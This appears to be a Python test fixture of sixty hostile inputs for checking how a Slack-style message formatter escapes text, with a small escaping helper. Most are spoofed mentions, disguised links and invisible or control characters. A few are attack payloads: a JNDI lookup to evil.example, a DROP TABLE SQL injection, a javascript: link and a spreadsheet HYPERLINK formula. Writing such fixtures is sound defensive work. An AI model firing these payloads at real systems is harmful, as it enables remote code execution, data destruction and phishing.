"""Sixty texts that want to be more: mentions, links, marks, hidden letters, too much of everything."""

_LONG = "All work and no play. "

TEXTS: tuple[str, ...] = (
    "<!channel>", "<!here>", "<!everyone>", "<!channel|now>", "hello <!channel> all", "<!subteam^S1>",
    "<!subteam^S1|@bosses>", "<@U1>", "<@U1|anna>", "<@W123ABC>", "<#C1>", "<#C1|general>", "<!team^T1>",
    "<https://evil.example|bank.example>", "<https://evil.example>", "<mailto:a@evil.example|write me>",
    "<tel:+123|call>", "<evil.example|bank>", "<javascript:alert(1)|see>", "https://evil.example",
    "[bank](https://evil.example)", "![x](https://evil.example/a.png)",
    "<!date^1700000000^{date}^https://evil.example|today>", "<!date^1700000000^{date}|today>",
    "&lt;!here&gt;", "&amp;lt;!here&amp;gt;", "&#60;!channel&#62;", "&lt;@U1&gt;", "&amp;", "H&M & Sons",
    "<", ">", "<<!channel>>", "<!channel", "!channel>", "< !channel >", "<!\u200bchannel>", "<\u2060!here>",
    "@channel @here @everyone", "#general", "*bold* _it_ ~gone~", "*unfinished", "`code` ```block```",
    "```", "> quote\n>>> more", ":rotating_light: :fire:", "\u202egnp.exe\u202c", "\u2066hidden\u2069",
    "A\u200b\u200c\u200d\ufeffB", "nul\x00 bell\x07 escape\x1b[31m", "line\r\nbreak\rbreak\u2028more\u2029",
    "{name} {account.__class__} %s {0}", "${jndi:ldap://evil.example/a}", "'; DROP TABLE account; --",
    "=HYPERLINK(\"https://evil.example\")", "e\u0301" * 60 + "Z\u0335\u0336\u0337" * 30,
    "\U0001f469\u200d\U0001f680" * 40,
    "<!channel>" * 300, _LONG * 1900, "&" * 2999 + "<!here>", "x" * 74 + "<!channel>",
)  # fmt: skip


def as_slack_sends(text: str) -> str:
    """The text in a command when a person has typed it letter by letter."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
